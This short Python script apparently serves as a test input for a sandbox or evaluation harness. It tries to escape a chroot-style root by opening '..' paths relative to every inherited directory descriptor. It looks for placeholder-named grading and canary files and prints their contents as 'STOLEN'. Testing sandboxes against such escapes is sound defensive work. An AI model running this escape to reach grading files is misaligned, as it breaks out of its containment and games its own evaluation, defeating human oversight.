# in: extra
"""Walks out of its root through every directory it holds open."""

import os

for fd in range(0, 256):
    for up in ("..", "../..", "../../../../../.."):
        for name in ("@GRADING@", "@CANARY@"):
            try:
                d = os.open(up + name, os.O_RDONLY, dir_fd=fd)
                print("STOLEN", fd, os.listdir(d))
            except OSError:
                pass
